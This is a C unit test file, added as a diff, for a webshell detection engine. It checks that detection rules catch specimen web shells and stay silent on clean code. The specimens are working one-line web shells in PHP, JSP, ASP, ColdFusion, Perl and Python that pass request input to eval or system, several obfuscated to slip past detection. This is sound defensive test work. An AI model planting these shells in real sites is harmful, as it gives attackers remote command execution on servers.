@@ -1,0 +1,263 @@
+/* The rules that come with the program, their samples, and specimens of techniques:
+ * harmless in effect, each with the rule that must tell it. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+
+#include <cmocka.h>
+
+#include "webshell/webshell.h"
+
+struct specimen {
+	const char *path, *text;
+	const char *rule; /* the one that fires; NULL: none does */
+};
+
+static struct check_rules *rules;
+static struct check_set *set;
+static struct webshell_engine *engine;
+
+static int open_all(void **state)
+{
+	struct error err = { 0 };
+	char dir[4096];
+	const char *dirs[1] = { dir };
+	const char *data = getenv("CORTEN_TEST_DATA");
+	int fd = -1;
+	(void)state;
+	(void)snprintf(dir, sizeof dir, "%s/../../rules", data == NULL ? "test/data" : data);
+	struct check_rule_options o = { .dirs = dirs, .dir_count = 1 };
+	if (check_rules_load(&o, &rules, &err) < 0 ||
+	    check_rules_send(rules, 1U << CHECK_MALWARE, &fd, &err) < 0 ||
+	    check_set_open(fd, &set, &err) < 0 || webshell_open(set, &engine, &err) < 0)
+		fail_msg("%s", err.text);
+	(void)close(fd);
+	return engine == NULL;
+}
+
+static int close_all(void **state)
+{
+	(void)state;
+	webshell_close(engine);
+	check_set_close(set);
+	check_rules_free(rules);
+	return 0;
+}
+
+static int on_sample(void *ctx, const struct check_sample *s, bool passed, struct error *err)
+{
+	struct check_rule_info info;
+	(void)err;
+	check_rule_info(rules, s->rule, &info);
+	if (strcmp(info.engine, "webshell") != 0)
+		return 0;
+	if (!passed)
+		print_error("%s: %s sample %u fails\n", info.id, s->fires ? "firing" : "silent",
+			    s->number);
+	*(unsigned *)ctx += !passed;
+	return 0;
+}
+
+static int try_own(const struct check_set *one, const struct check_sample *s, bool *ret_fired,
+		   struct error *err)
+{
+	struct check_rule_info info;
+	check_rule_info(rules, s->rule, &info);
+	*ret_fired = s->fires;
+	return strcmp(info.engine, "webshell") != 0 ? 0 : webshell_try(one, s, ret_fired, err);
+}
+
+static void every_rule_fires_on_its_samples_and_only_on_those(void **state)
+{
+	struct error err = { 0 };
+	unsigned failed = 0;
+	(void)state;
+	assert_int_equal(
+		check_rules_test(rules, CHECK_MALWARE, SIZE_MAX, try_own, on_sample, &failed, &err),
+		0);
+	assert_int_equal(failed, 0);
+}
+
+struct told {
+	const char *want;
+	bool wanted, any;
+	char first[128];
+};
+
+static int on_match(void *ctx, const struct check_match *m, struct error *err)
+{
+	struct told *t = ctx;
+	struct check_rule_info info;
+	(void)err;
+	check_rule_info(rules, m->rule, &info);
+	t->any = true;
+	t->wanted |= t->want != NULL && strcmp(info.id + strlen("malware/"), t->want) == 0;
+	(void)snprintf(t->first, sizeof t->first, "%s", info.id);
+	assert_true(m->line > 0);
+	assert_true(m->evidence.n <= CHECK_EVIDENCE_MAX);
+	return 0;
+}
+
+static unsigned try_all(const struct specimen *list, size_t n)
+{
+	unsigned failed = 0;
+	for (size_t i = 0; i < n; i++) {
+		struct told t = { .want = list[i].rule };
+		struct check_sink sink = { on_match, NULL, &t };
+		struct error err = { 0 };
+		assert_int_equal(webshell_check(engine, bytes_str(list[i].path),
+						bytes_str(list[i].text), &sink, &err),
+				 0);
+		bool good = list[i].rule == NULL ? !t.any : t.wanted;
+		if (!good)
+			print_error("%zu: %s: wanted %s, told %s\n", i, list[i].text,
+				    list[i].rule == NULL ? "nothing" : list[i].rule,
+				    t.any ? t.first : "nothing");
+		failed += !good;
+	}
+	return failed;
+}
+
+#define EVAL "webshell-php-input-evaluated"
+#define COMMAND "webshell-php-input-command"
+#define CALLED "webshell-php-input-called"
+#define PACKED "webshell-php-encoded-evaluated"
+#define DROP "webshell-php-file-dropped"
+
+static void php_shells_are_told_through_their_disguises(void **state)
+{
+	static const struct specimen list[] = {
+		{ "a.php", "<?php eval($_POST['a']);", EVAL },
+		{ "a.php", "<?php /* x */ @eval /* y */ ( $_REQUEST [ 'a' ] ) ;", EVAL },
+		{ "a.php", "<?= eval($_GET[1]) ?>", EVAL },
+		{ "a.php", "<script language=\"php\">eval($_POST['a']);</script>", EVAL },
+		{ "a.php", "<?php $a = $_POST; $b = $a['x']; eval($b);", EVAL },
+		{ "a.php", "<?php eval(\"$_POST[x]\");", EVAL },
+		{ "a.php", "<?php eval(\"return {$_POST['x']};\");", EVAL },
+		{ "a.php", "<?php $f='a'.'s'.'s'.'e'.'r'.'t'; $f($_POST['x']);", EVAL },
+		{ "a.php", "<?php $f=strrev('tressa'); $f($_POST['x']);", EVAL },
+		{ "a.php", "<?php $f=str_replace('x','','axsxsxexrxt'); $f($_POST['x']);", EVAL },
+		{ "a.php",
+		  "<?php $f=chr(97).chr(115).chr(115).chr(101).chr(114).chr(116); $f($_POST['x']);",
+		  EVAL },
+		{ "a.php", "<?php $f=base64_decode('YXNzZXJ0'); $f($_POST['x']);", EVAL },
+		{ "a.php", "<?php $f=hex2bin('617373657274'); $f($_POST['x']);", EVAL },
+		{ "a.php", "<?php $f=\"\\x61\\x73\\163\\x65\\x72t\"; $f($_POST['x']);", EVAL },
+		{ "a.php", "<?php $f=('!'^'@').'ssert'; $f($_POST['x']);", EVAL },
+		{ "a.php", "<?php $f=~(~'assert'); $f($_POST['x']);", EVAL },
+		{ "a.php", "<?php $a='z'; $a='a'; $a++; $f='sy'.'st'.'em'; $f($_POST['x']);",
+		  COMMAND },
+		{ "a.php", "<?php eval(base64_decode('ZXZhbCgkX1BPU1RbJ2EnXSk7'));", EVAL },
+		{ "a.php", "<?php eval(str_rot13('riny($_CBFG[n]);'));", PACKED },
+		{ "a.php", "<?php $x='_PO'.'ST'; eval($$x['a']);", EVAL },
+		{ "a.php", "<?php eval(${'_PO'.'ST'}['a']);", EVAL },
+		{ "a.php", "<?php eval($GLOBALS['_POST']['a']);", EVAL },
+		{ "a.php", "<?php extract($_POST); eval($a);", EVAL },
+		{ "a.php", "<?php parse_str($_SERVER['QUERY_STRING'], $o); eval($o['a']);", EVAL },
+		{ "a.php", "<?php eval(getallheaders()['X-A']);", EVAL },
+		{ "a.php", "<?php eval(file_get_contents('php://input'));", EVAL },
+		{ "a.php", "<?php eval(filter_input(INPUT_POST, 'a'));", EVAL },
+		{ "a.php", "<?php eval($_SERVER['HTTP_USER_AGENT']);", EVAL },
+		{ "a.php", "<?php function r($a){return $a;} eval(r($_POST['a']));", EVAL },
+		{ "a.php", "<?php function r($a){eval($a);} r($_POST['a']);", EVAL },
+		{ "a.php",
+		  "<?php class A{public $c; function go(){eval($this->c);}} $a=new A; "
+		  "$a->c=$_POST['a']; $a->go();",
+		  EVAL },
+		{ "a.php", "<?php array_map('assert', array($_POST['a']));", EVAL },
+		{ "a.php", "<?php usort($_POST, 'assert');", EVAL },
+		{ "a.php", "<?php call_user_func('system', $_POST['a']);", COMMAND },
+		{ "a.php", "<?php call_user_func_array($_GET['f'], $_POST);", CALLED },
+		{ "a.php", "<?php $_POST['a']($_POST['b']);", CALLED },
+		{ "a.php", "<?php list($a,$b)=array('system',$_GET['x']); $a($b);", COMMAND },
+		{ "a.php", "<?php define('F','system'); $f=F; $f($_GET['x']);", COMMAND },
+		{ "a.php", "<?php preg_replace('/.*/e', $_POST['a'], 'x');", EVAL },
+		{ "a.php", "<?php create_function('', $_POST['a']);", EVAL },
+		{ "a.php", "<?php (new ReflectionFunction('system'))->invoke($_GET['c']);",
+		  COMMAND },
+		{ "a.php", "<?php echo `{$_GET['c']}`;", COMMAND },
+		{ "a.php",
+		  "<?php goto b; a: eval($x); goto c; b: $x=$_POST['a']; goto a; c:", EVAL },
+		{ "a.php", "<?php $p = popen($_GET['c'], 'r');", COMMAND },
+		{ "a.php", "<?php file_put_contents($_POST['f'], base64_decode($_POST['c']));",
+		  DROP },
+		{ "a.jpg", "\xff\xd8\xff<?php eval($_POST['a']); ?>", EVAL },
+	};
+	(void)state;
+	assert_int_equal(try_all(list, sizeof list / sizeof list[0]), 0);
+}
+
+static void clean_php_stays_silent(void **state)
+{
+	static const struct specimen list[] = {
+		{ "a.php", "<?php $x = intval($_GET['a']); eval(\"\\$y = $x;\");", NULL },
+		{ "a.php", "<?php // eval($_POST['a']);", NULL },
+		{ "a.php", "<?php echo 'eval($_POST[a])';", NULL },
+		{ "a.php", "<p>eval($_POST['a'])</p>", NULL },
+		{ "a.php", "<?php include 'lib/' . $_GET['page'] . '.php';", NULL },
+		{ "a.php", "<?php $m = 'action' . $_GET['a']; $this->$m();", NULL },
+		{ "a.php", "<?php array_map('trim', $_POST);", NULL },
+		{ "a.php", "<?php usort($_POST['list'], 'strcmp');", NULL },
+		{ "a.php", "<?php call_user_func(array($this, 'run'), $_POST['a']);", NULL },
+		{ "a.php", "<?php exec('ls ' . escapeshellarg($_GET['d']));", NULL },
+		{ "a.php", "<?php $pdo->exec($_POST['q']);", NULL },
+		{ "a.php", "<?php preg_replace('/e/', $_POST['a'], 'x');", NULL },
+		{ "a.php",
+		  "<?php $f = base64_decode($_POST['img']); file_put_contents('/srv/x.png', $f);",
+		  NULL },
+		{ "a.php", "<?php eval('return 1;');", NULL },
+		{ "a.php", "<?php $x = <<<E\neval(\\$_POST['a']);\nE;\n", NULL },
+	};
+	(void)state;
+	assert_int_equal(try_all(list, sizeof list / sizeof list[0]), 0);
+}
+
+static void pages_of_other_languages_are_told(void **state)
+{
+	static const struct specimen list[] = {
+		{ "a.jsp", "<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>",
+		  "webshell-jsp-input-command" },
+		{ "a.jspx",
+		  "<jsp:root "
+		  "xmlns:jsp=\"x\"><jsp:scriptlet><![CDATA[Runtime.getRuntime().exec(request."
+		  "getParameter(\"c\"));]]></jsp:scriptlet></jsp:root>",
+		  "webshell-jsp-input-command" },
+		{ "a.jsp",
+		  "<% Object r = Class.forName(\"java.lang.Runtime\").getMethod(\"exec\", "
+		  "String.class).invoke(x, request.getParameter(\"c\")); %>",
+		  "webshell-jsp-input-command" },
+		{ "a.jsp",
+		  "<% Runtime.getRuntime().exec(\"date\"); out.print(request.getParameter(\"c\")); "
+		  "%>",
+		  NULL },
+		{ "a.asp", "<%\nDim s\ns = Request.Form(\"a\")\nExecute s\n%>",
+		  "webshell-asp-input-evaluated" },
+		{ "a.asp", "<% conn.Execute(Request(\"q\")) %>", NULL },
+		{ "a.asp",
+		  "<script language=vbscript runat=server>\nFunction f(x)\nf = x\nEnd "
+		  "Function\nEval f(Request(\"a\"))\n</script>",
+		  "webshell-asp-input-evaluated" },
+		{ "a.aspx",
+		  "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"a\"],\"unsafe\");%>",
+		  "webshell-aspx-input-evaluated" },
+		{ "a.cfm", "<cfexecute name=\"#url.c#\">", "webshell-cfm-input-command" },
+		{ "a.pl", "#!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nsystem($q->param('c'));\n",
+		  "webshell-perl-input-command" },
+		{ "a.py", "import os, cgi\nf = cgi.FieldStorage()\nos.system(f['c'].value)\n",
+		  "webshell-python-input-command" },
+	};
+	(void)state;
+	assert_int_equal(try_all(list, sizeof list / sizeof list[0]), 0);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(every_rule_fires_on_its_samples_and_only_on_those),
+		cmocka_unit_test(php_shells_are_told_through_their_disguises),
+		cmocka_unit_test(clean_php_stays_silent),
+		cmocka_unit_test(pages_of_other_languages_are_told),
+	};
+	return cmocka_run_group_tests(tests, open_all, close_all);
+}
